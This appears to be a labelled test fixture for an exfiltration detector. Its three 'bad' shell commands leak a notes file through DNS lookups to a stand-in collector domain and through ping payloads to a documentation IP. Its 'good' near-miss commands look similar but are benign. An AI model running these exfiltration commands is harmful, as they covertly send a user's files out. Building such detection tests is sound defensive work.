# bad: in a name
dig "$(xxd -p notes.txt | head -c 60).t.collector.example"
# bad: piece by piece
for b in $(base32 -w 60 notes.txt); do host "$b.t.collector.example"; done
# bad: in packets of ping
ping -c 1 -p "$(xxd -p -l 16 notes.txt)" 203.0.113.9
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# good: nearly: shown
xxd -p notes.txt | head
# good: nearly: a name is asked for
dig "$(hostname).example.org"
# good: nearly: a file of base64 in a request
curl -d "content=$(base64 -w0 logo.png)" https://api.example/logo
# good: a checksum
sha256sum notes.txt | xxd | head -1
